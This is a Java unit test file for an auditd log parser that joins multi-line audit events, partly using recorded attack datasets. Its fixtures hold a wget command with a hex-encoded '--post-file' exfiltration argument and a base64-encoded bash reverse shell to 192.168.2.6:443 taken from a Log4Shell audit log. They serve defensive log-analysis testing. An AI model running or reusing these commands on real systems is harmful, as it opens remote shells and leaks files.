// SPDX-License-Identifier: Apache-2.0
package dev.shirube.textlogs;

import static org.assertj.core.api.Assertions.assertThat;

import dev.shirube.containers.Limits;
import dev.shirube.documents.JsonFormat;
import dev.shirube.event.Event;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/// Joining the lines of audit events.
class AuditdTest {
  private static final AuditdFormat FORMAT = new AuditdFormat();

  @Test
  void joinsHowEverLinesAreInterleaved() {
    StringBuilder log = new StringBuilder();
    int events = 300;
    for (int step = 0; step < events + 60; step++) {
      line(log, step, "SYSCALL", "syscall=59 arch=c000003e exe=\"/bin/x\"", events);
      line(log, step - 20, "EXECVE", "argc=1 a0=\"x\"", events);
      line(log, step - 40, "PROCTITLE", "proctitle=78", events);
    }
    Reading reading = Reading.of(FORMAT, log.toString());
    assertThat(reading.events()).hasSize(events);
    for (List<String> event : reading.events()) {
      assertThat(event).contains("type[1]=SYSCALL", "a0[2]=x", "proctitle[3]=x", "SYSCALL=execve");
    }
  }

  private static void line(StringBuilder log, int event, String type, String fields, int events) {
    if (event >= 0 && event < events) {
      log.append("type=").append(type).append(" msg=audit(1652292621.998:").append(event);
      log.append("): ").append(fields).append('\n');
    }
  }

  @Test
  void letsGoOfEventsThatNeverEnd() {
    StringBuilder log = new StringBuilder();
    int events = 5_000;
    for (int event = 0; event < events; event++) {
      line(log, event, "SYSCALL", "syscall=59", events);
    }
    line(log, 7, "PATH", "name=\"late\"", events);
    Reading reading = Reading.of(FORMAT, log.toString());
    assertThat(reading.events()).hasSize(events + 1);
    assertThat(reading.events().getLast()).contains("name[1]=late");
  }

  @Test
  void cutsEventsThatAreTooLong() {
    StringBuilder log = new StringBuilder();
    for (int line = 0; line < 5_000; line++) {
      line(log, 1, "PATH", "item=" + line + " name=\"/x\"", 2);
    }
    Reading reading = Reading.of(FORMAT, log.toString());
    assertThat(reading.events()).hasSizeBetween(2, 5);
    int paths = 0;
    for (List<String> event : reading.events()) {
      paths += (int) event.stream().filter(it -> it.startsWith("name[")).count();
      paths +=
          event.stream().filter(it -> it.startsWith("_rest")).mapToInt(AuditdTest::names).sum();
    }
    assertThat(paths).isEqualTo(5_000);
  }

  private static int names(String rest) {
    return (int) rest.lines().filter(line -> line.contains(" name=")).count();
  }

  /// Rules are written for single lines; what they ask holds for the joined record.
  @Test
  void answersWhatRulesForSingleLinesAsk() {
    String execve =
        """
        type=SYSCALL msg=audit(1.0:1): arch=c000003e syscall=59 a0=40000 a1=dd a2=4 a3=8 exe="/usr/bin/wget" key="susp"
        type=EXECVE msg=audit(1.0:1): argc=3 a0="wget" a1=2D2D706F73742D66696C653D2F7820 a2="http://x"
        type=PATH msg=audit(1.0:1): item=0 name="/usr/bin/wget" nametype=NORMAL
        """;
    List<String> started = Reading.of(FORMAT, execve).events().getFirst();
    assertThat(started).contains("type[1]=SYSCALL", "type[2]=EXECVE", "type[3]=PATH");
    assertThat(started).contains("a0[2]=wget", "a1[2]=--post-file=/x ", "SYSCALL.a0[1]=40000");
    assertThat(started).doesNotContain("a0[1]=40000");
    String personality =
        "type=SYSCALL msg=audit(1.0:2): arch=c000003e syscall=135 a0=40000 a1=0 exe=\"/bin/a\"\n";
    List<String> called = Reading.of(FORMAT, personality).events().getFirst();
    assertThat(called).contains("type[1]=SYSCALL", "SYSCALL=personality", "a0[1]=40000");
  }

  @Test
  void splitsATextInsideAValue() {
    List<String> parts =
        Reading.split(FORMAT, "type=USER_LOGIN msg=audit(1.0:2): pid=1 msg='acct=\"a\"'", "a.");
    assertThat(parts).contains("a.type[1]=USER_LOGIN", "a.acct[1]=a", "a.audit.serial=2");
    assertThat(Reading.split(FORMAT, "type=USER_LOGIN but no audit", "a.")).isEmpty();
  }

  @Test
  @Tag("data")
  void readsTheAuditLogsOfRealAttacks() throws IOException {
    String folder = "security-datasets/atomic/linux/";
    List<List<String>> padding = read(folder + "defense_evasion/host/sh_binary_padding_dd.zip");
    assertThat(padding).hasSize(1);
    assertThat(padding.getFirst()).contains("cmdline=dd if=/dev/zero bs=1 count=1", "a0[2]=dd");
    assertThat(padding.getFirst()).contains("proctitle[6]=dd if=/dev/zero bs=1 count=1");
    List<List<String>> arp = read(folder + "discovery/host/sh_arp_cache.zip");
    assertThat(arp).hasSize(2);
    assertThat(arp.get(0)).contains("cmdline=arp -a", "SYSCALL=execve", "exe[1]=/usr/sbin/arp");
    assertThat(arp.get(1)).contains("cmdline=grep -v ^?");
  }

  private static List<List<String>> read(String archive) throws IOException {
    Map<String, byte[]> files = RealData.unzip(archive, "joined events of audit logs");
    byte[] log = RealData.ending(files, ".log");
    assertThat(GoldenTest.best(log).name()).isEqualTo("auditd");
    return Reading.of(FORMAT, log).events();
  }

  @Test
  @Tag("data")
  void readsWhatAuomsMadeOfAuditEvents() throws IOException {
    String archive =
        "log4shell-linux/syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference.zip";
    Map<String, byte[]> files = RealData.unzip(archive, "audit events through AUOMS");
    List<String> texts = new ArrayList<>();
    Reading.each(
        new JsonFormat(),
        files.values().iterator().next(),
        Limits.STANDARD,
        new ArrayList<>(),
        event -> texts.add(text(event)));
    assertThat(texts).hasSize(50);
    List<String> commands = new ArrayList<>();
    for (String text : texts) {
      List<String> parts = Reading.split(FORMAT, text, "");
      assertThat(parts).contains("type[1]=EXECVE", "SYSCALL[1]=execve", "node[1]=UBUNTU5");
      parts.stream().filter(it -> it.startsWith("a2=")).forEach(commands::add);
    }
    assertThat(commands)
        .contains(
            "a2={echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}");
  }

  private static String text(Event event) {
    return event.text(event.findName("SyslogMessage"));
  }
}
